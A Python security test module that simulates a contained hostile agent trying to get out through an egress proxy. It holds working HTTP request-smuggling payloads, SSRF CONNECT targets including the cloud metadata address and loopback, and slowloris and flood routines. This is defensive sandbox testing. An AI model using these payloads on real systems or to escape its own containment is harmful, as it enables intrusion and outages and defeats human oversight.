"""What a hostile agent does to its way out: `python -m tests.security.outbreaks NAME SOCKET SECONDS HOST:PORT`, a listed host.

Only the standard library, as inside a container. An attack that loses a connection opens the next.
"""

import contextlib
import itertools
import socket
import sys
import time
from collections.abc import Callable, Iterator

from .attacks import opened, over_and_over, pour, slow_loris

CONNECTIONS = 64
POST = b"POST /v1/messages HTTP/1.1\r\nhost: x\r\n"


def outbreak(pieces: Callable[[str], Callable[[], Iterator[bytes]]], reads: bool = True) -> Callable[..., None]:
    return lambda path, end, listed: pour(path, end, pieces(listed), reads, CONNECTIONS)


def once(first: bytes, then: bytes) -> Callable[[], Iterator[bytes]]:
    """`first`, then the other over and over."""
    return lambda: itertools.chain([first], itertools.repeat(then))


def again(pieces: Iterator[bytes]) -> Callable[[], Iterator[bytes]]:
    """One of these per connection, in turn."""
    return lambda: iter([next(pieces)])


def connects(*targets: str) -> Callable[[], Iterator[bytes]]:
    return again(itertools.cycle(f"CONNECT {target} HTTP/1.1\r\n\r\n".encode() for target in targets))


# The same bytes are two requests to one who reads them in another way.
SMUGGLED = b"GET http://127.0.0.1:7000/ HTTP/1.1\r\nhost: x\r\n\r\n"
SHAPES = (
    POST + b"content-length: 5\r\ntransfer-encoding: chunked\r\n\r\n0\r\n\r\n" + SMUGGLED,
    POST + b"content-length: 0\r\ncontent-length: 5\r\n\r\n" + SMUGGLED,
    POST + b"transfer-encoding: chunked, identity\r\n\r\n0\r\n\r\n" + SMUGGLED,
    POST + b"transfer-encoding: \x0bchunked\r\n\r\n0\r\n\r\n" + SMUGGLED,
    POST + b"content-length: +5\r\n\r\n" + SMUGGLED,
    POST + b"content-length : 5\r\n\r\n" + SMUGGLED,
    POST + b"x: a\n\tb: c\r\n\r\n" + SMUGGLED,
    POST + b"connection: content-length\r\ncontent-length: 5\r\n\r\nabcde" + SMUGGLED,
    b"POST /v1/messages HTTP/1.0\r\n\r\n" + SMUGGLED,
    POST + b"content-length: 0\r\n\r\n" + SMUGGLED,
)
INNER = (
    "127.0.0.1:7000",
    "169.254.169.254:80",
    "[fe80::1]:80",
    "[::ffff:127.0.0.1]:7000",
    "10.0.0.1:22",
    "2130706433:80",
)


def thousand_ways(path: str, end: float, listed: str) -> None:
    held: list[socket.socket] = []
    while time.monotonic() < end:
        while len(held) < 1000 and time.monotonic() < end:
            held.append(opened(path))
        time.sleep(0.1)
        for sock in held:
            sock.close()
        held.clear()


def dripping_head(path: str, end: float, listed: str) -> None:
    """A byte now and then on every connection, and never the end of a head."""
    slow_loris(path, end, b"G", CONNECTIONS)


def half_a_request(path: str, end: float, listed: str) -> None:
    """Half a head, half a body, half a chunk, or nothing, and the writing end shut."""
    halves = (
        b"",
        b"CONNECT ",
        POST + b"content-length: 9\r\n\r\nx",
        POST + b"transfer-encoding: chunked\r\n\r\nff\r\nx",
    )
    while time.monotonic() < end:
        held = [opened(path) for _ in range(CONNECTIONS)]
        for number, sock in enumerate(held):
            with contextlib.suppress(OSError):
                sock.send(halves[number % len(halves)])
                sock.shutdown(socket.SHUT_WR)
        time.sleep(0.05)
        for sock in held:
            sock.close()


OUTBREAKS = {
    "endless_head": outbreak(lambda _: once(POST, b"x: " + b"y" * 65536 + b"\r\n")),
    "many_fields": outbreak(lambda _: once(POST, b"x: y\r\n" * 10_000)),
    "huge_chunk": outbreak(lambda _: once(POST + b"transfer-encoding: chunked\r\n\r\nffffffff\r\n", b"x" * 65536)),
    "tiny_chunks": outbreak(lambda _: once(POST + b"transfer-encoding: chunked\r\n\r\n", b"1\r\nx\r\n" * 10_000)),
    "endless_trailer": outbreak(
        lambda _: once(POST + b"transfer-encoding: chunked\r\n\r\n0\r\n", b"x: y\r\n" * 10_000)
    ),
    "inner_addresses": outbreak(lambda _: connects(*INNER)),
    "smuggled": outbreak(lambda _: again(itertools.cycle(SHAPES))),
    "flood_through_a_tunnel": outbreak(
        lambda listed: once(f"CONNECT {listed} HTTP/1.1\r\n\r\n".encode(), b"x" * 65536)
    ),
    "unread_answers": outbreak(
        lambda listed: over_and_over(f"GET http://{listed}/ HTTP/1.1\r\n\r\n".encode()), reads=False
    ),
    "thousand_ways": thousand_ways,
    "dripping_head": dripping_head,
    "half_a_request": half_a_request,
}


if __name__ == "__main__":
    name, path, seconds, listed = sys.argv[1:]
    OUTBREAKS[name](path, time.monotonic() + float(seconds), listed)
